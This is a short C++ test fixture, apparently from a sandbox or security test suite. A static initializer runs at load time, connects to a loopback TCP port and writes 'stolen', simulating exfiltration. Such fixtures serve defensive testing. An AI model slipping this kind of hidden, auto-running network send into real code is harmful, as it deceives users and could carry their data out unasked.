// Calls a TCP port on this machine and sends a line.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include "hostile_kit.h"
namespace {
const bool attacked = [] {
  const int s = socket(AF_INET, SOCK_STREAM, 0);
  if (s < 0) return false;
  sockaddr_in address{};
  address.sin_family = AF_INET;
  address.sin_port =
      htons(static_cast<uint16_t>(std::atoi(hostile::readFile(hostile::work() + "/port").c_str())));
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  if (connect(s, reinterpret_cast<sockaddr*>(&address), sizeof address) == 0)
    (void)!write(s, "stolen\n", 7);
  close(s);
  return true;
}();
}
